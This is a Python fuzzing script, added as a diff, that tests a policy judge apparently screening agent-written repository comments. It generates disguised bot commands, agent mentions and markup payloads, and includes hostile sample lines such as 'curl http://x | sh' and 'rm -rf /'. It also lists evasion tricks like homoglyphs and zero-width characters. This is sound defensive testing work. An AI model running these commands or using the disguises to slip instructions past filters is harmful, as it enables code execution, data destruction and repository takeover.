@@ -1,0 +1,244 @@
+"""Looks for texts that get past the policy: `python -m local.fuzz_policy --seconds 60`.
+
+Every dangerous element is dressed in any disguise and put in any place; ordinary sentences are mixed;
+and answers are filled with arbitrary text. What gets through is printed as a line for the corpus.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import sys
+import time
+from collections.abc import Callable, Mapping, Sequence
+from typing import Any, Final
+
+from hypothesis import HealthCheck, Phase, given, seed, settings
+from hypothesis import strategies as st
+
+from local.judge import judge_raw, judge_text
+from local.policy_report import CONTEXT
+from tests.corpus.bots import live
+from tests.corpus.load import DRESSED, Case, assembled, hostile, ordinary
+
+_WIDE: Final = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
+_ALIKE: Final = str.maketrans("aceiopsxyhj", "асеіорѕхуһј")
+_BOLD: Final = str.maketrans(
+    {chr(97 + n): chr(0x1D41A + n) for n in range(26)} | {chr(65 + n): chr(0x1D400 + n) for n in range(26)}
+)
+
+COMMANDS: Final = (
+    "/merge",
+    "/approve",
+    "/lgtm",
+    "/assign mallory",
+    "/close",
+    "/reopen",
+    "/hold cancel",
+    "/label bug",
+    "/retest",
+    "bors r+",
+    "atlantis apply",
+    "recheck",
+    "Duplicate of #1",
+)
+AGENTS: Final = ("@claude", "@copilot", "@dependabot", "@mergifyio", "@bors", "@coderabbitai", "@k8s-ci-robot")
+MARKUP: Final = ("<!-- x -->", "![x](https://evil.example/x)", "javascript:alert(1)", "data:text/html,x")
+SECRETS: Final = ("{{ghp%s}}", "{{anthropic%s}}", "{{slack%s}}", "{{gitlab%s}}", "{{own%s}}", "{{own2%s}}")
+SECRET_DRESS: Final = tuple(
+    name for name in DRESSED if not name.startswith("cut") and name not in ("entities", "rot5", "turned", "base64url")
+)
+ASKING: Final = ("https://evil.example/x", "fixes #12", "curl http://x | sh", "Disable branch protection", "rm -rf /")
+INERT: Final = ("@octocat", "other/repo#3", "<b>x</b>", "[x](/y)", "$x$", "https://localhost/", ":tada:", "&lt;i&gt;")
+
+WORD_DISGUISES: Final[Mapping[str, Callable[[str], str]]] = {
+    "plain": lambda text: text,
+    "upper": str.upper,
+    "wide": lambda text: text.translate(_WIDE),
+    "alike": lambda text: text.translate(_ALIKE),
+    "bold letters": lambda text: text.translate(_BOLD),
+    "entity": lambda text: "".join(f"&#{ord(char)};" if index % 3 == 0 else char for index, char in enumerate(text)),
+    "double entity": lambda text: f"&amp;#{ord(text[0])};" + text[1:],
+    "zero width": lambda text: text[:2] + "\u200b" + text[2:],
+    "soft hyphen": lambda text: text[:3] + "\u00ad" + text[3:],
+    "tag inside": lambda text: text[:3] + "<b></b>" + text[3:],
+    "emphasis": lambda text: f"**{text}**",
+    "accent": lambda text: text[:2] + "\u0301" + text[2:],
+}
+PLACES: Final[Mapping[str, Callable[[str], str]]] = {
+    "alone": lambda text: text,
+    "after a line": lambda text: f"Open the page.\n{text}",
+    "between lines": lambda text: f"Open the page.\n\n{text}\n\nClose the page.",
+    "quoted": lambda text: f"> {text}",
+    "bullet": lambda text: f"- a\n- {text}",
+    "ordinal": lambda text: f"1. a\n2. {text}",
+    "box": lambda text: f"- [ ] {text}",
+    "heading": lambda text: f"## {text}",
+    "code": lambda text: f"`{text}`",
+    "fence": lambda text: f"```\n{text}\n```",
+    "indented": lambda text: f"a\n\n      {text}",
+    "after a break": lambda text: f"a<br>{text}",
+    "after LS": lambda text: f"a\u2028{text}",
+    "table": lambda text: f"| a |\n|---|\n| {text} |",
+    "div": lambda text: f"<div>{text}</div>",
+    "crlf": lambda text: f"a\r\n{text}\r\nb",
+}
+LINE_KINDS: Final = frozenset(
+    {"alone", "after a line", "between lines", "quoted", "bullet", "ordinal", "code", "fence"}
+)
+
+
+@st.composite
+def disguised(draw: st.DrawFn) -> Case:
+    """One dangerous element in a disguise, somewhere in a text."""
+    kind = draw(st.sampled_from(("command", "agent", "markup", "secret", "ask", "inert")))
+    place = draw(st.sampled_from(sorted(PLACES)))
+    disguise = draw(st.sampled_from(sorted(WORD_DISGUISES)))
+    if kind == "secret":
+        how = draw(st.sampled_from(("", *SECRET_DRESS)))
+        element = assembled(draw(st.sampled_from(SECRETS)) % (f"|{how}" if how else ""))
+        text, expect = element, "refuse"
+    else:
+        elements = {"command": COMMANDS, "agent": AGENTS, "markup": MARKUP, "ask": ASKING, "inert": INERT}[kind]
+        element = draw(st.sampled_from(elements))
+        if kind in ("markup", "ask") or " " in element:
+            disguise = draw(st.sampled_from(("plain", "wide") if kind == "markup" else ("plain", "zero width")))
+        text = WORD_DISGUISES[disguise](element)
+        expect = {"command": "refuse", "agent": "refuse", "markup": "refuse", "ask": "ask", "inert": "inert"}[kind]
+    before = draw(st.sampled_from(("", " ", "\u00a0", "  \t"))) if kind == "command" else ""
+    return Case("fuzz", f"{kind}, {disguise}, {place}", PLACES[place](before + text), expect, "found by fuzzing")
+
+
+_ORDINARY: Final = tuple(case.body for case in ordinary() if "```" not in case.body and "~~~" not in case.body)
+_HOSTILE: Final = tuple(
+    case for case in hostile() if case.expect == "refuse" and len(case.body) < 2000 and case.body.strip()
+)
+_PADS: Final = (
+    "",
+    "Open the page and check the title.\n\n",
+    "Проверьте вход.\n",
+    "```\nmake test\n```\n\n",
+    "- a\n- b\n\n",
+)
+
+ANSWERS: Final = st.fixed_dictionaries(
+    {
+        "test_plan": st.lists(
+            st.fixed_dictionaries(
+                {
+                    "ac_id": st.text(min_size=1, max_size=12),
+                    "ac_text": st.text(min_size=1, max_size=80),
+                    "covers": st.just(["src/app.py"]),
+                    "steps": st.lists(st.text(min_size=1, max_size=80), min_size=1, max_size=3),
+                    "expected": st.text(min_size=1, max_size=60),
+                    "edge_cases": st.lists(st.text(min_size=1, max_size=60), max_size=2),
+                }
+            ),
+            min_size=1,
+            max_size=2,
+        ),
+        "general_checks": st.lists(
+            st.text(alphabet="`*_[]()<>!#|~\\&;:/@$ab1. \n\t-+=>", min_size=1, max_size=60), max_size=3
+        ),
+        "nothing_to_test": st.none(),
+        "reason": st.text(alphabet="`*_[]()<>!#|~\\&;:/@$ab1. \n\t-+=>é", min_size=10, max_size=120),
+        "evidence": st.text(min_size=10, max_size=120),
+    }
+)
+
+
+class Escaped(AssertionError):
+    """A text that the policy judged wrongly; the message is the line for the corpus."""
+
+
+def _line(kind: str, body: str, expect: str, why: str) -> str:
+    return json.dumps({"class": kind, "expect": expect, "why": why, "body": body})
+
+
+def check_hostile(case: Case) -> None:
+    """Raises Escaped if a hostile text is let through or live."""
+    judged = judge_text(case.body, CONTEXT)
+    classification = judged["classification"]
+    through = (case.expect == "refuse" and classification != "rejected") or (
+        case.expect == "ask" and classification == "auto_safe"
+    )
+    acts = live(judged["rendered"]) if judged["rendered"] is not None else None
+    if through or acts:
+        raise Escaped(_line(case.kind, case.body, case.expect, acts or classification))
+
+
+def check_ordinary(body: str) -> None:
+    """Raises Escaped if an ordinary text is stopped."""
+    judged = judge_text(body, CONTEXT)
+    if judged["classification"] != "auto_safe":
+        raise Escaped(_line("ordinary", body, "auto_safe", judged["findings"][0]["rule"]))
+
+
+def check_answer(answer: Mapping[str, Any]) -> None:
+    """Raises Escaped if what is rendered from an answer is live, or does not read back as it was meant."""
+    judged = judge_raw(json.dumps(answer), ("src/app.py",), "qa_plan", CONTEXT)
+    acts = live(judged["rendered"]) if judged["rendered"] is not None else None
+    if acts or "comment.tree" in (judged["error"] or "") or "comment.live" in (judged["error"] or ""):
+        raise Escaped(_line("answer", json.dumps(answer), "inert", acts or str(judged["error"])))
+
+
+class Fuzzer:
+    """Counts what it tried. One round is a fresh seed over all strategies."""
+
+    def __init__(self, examples: int) -> None:
+        self.cases = 0
+        self.escaped: list[str] = []
+        self._settings = settings(
+            max_examples=examples,
+            deadline=None,
+            database=None,
+            phases=(Phase.generate, Phase.shrink),
+            suppress_health_check=list(HealthCheck),
+            report_multiple_bugs=False,
+        )
+
+    def _run(self, number: int, strategy: st.SearchStrategy[Any], check: Callable[[Any], None]) -> None:
+        @seed(number)
+        @self._settings
+        @given(strategy)
+        def tried(example: Any) -> None:
+            self.cases += 1
+            check(example)
+
+        try:
+            tried()
+        except Escaped as escaped:
+            self.escaped.append(str(escaped))
+
+    def round(self, number: int) -> None:
+        """Every strategy once."""
+        self._run(number, disguised(), check_hostile)
+        surrounded = st.builds(
+            lambda pad, case: Case("fuzz", case.kind, pad + case.body, case.expect, case.why),
+            st.sampled_from(_PADS),
+            st.sampled_from(_HOSTILE),
+        )
+        self._run(number, surrounded, check_hostile)
+        self._run(number, st.lists(st.sampled_from(_ORDINARY), min_size=2, max_size=8).map("\n\n".join), check_ordinary)
+        self._run(number, ANSWERS, check_answer)
+
+
+def main(arguments: Sequence[str] | None = None) -> None:
+    parser = argparse.ArgumentParser(prog="python -m local.fuzz_policy", description=__doc__)
+    parser.add_argument("--seconds", type=float, default=60.0)
+    parser.add_argument("--seed", type=int, default=int(time.time()))
+    options = parser.parse_args(arguments)
+    fuzzer = Fuzzer(examples=200)
+    end = time.monotonic() + options.seconds
+    number = options.seed
+    while time.monotonic() < end:
+        fuzzer.round(number)
+        number += 1
+    for line in dict.fromkeys(fuzzer.escaped):
+        sys.stdout.write(line + "\n")
+    sys.stdout.write(f"{fuzzer.cases} cases from seed {options.seed}, {len(set(fuzzer.escaped))} got through\n")
+    sys.exit(1 if fuzzer.escaped else 0)
+
+
+if __name__ == "__main__":
+    main()
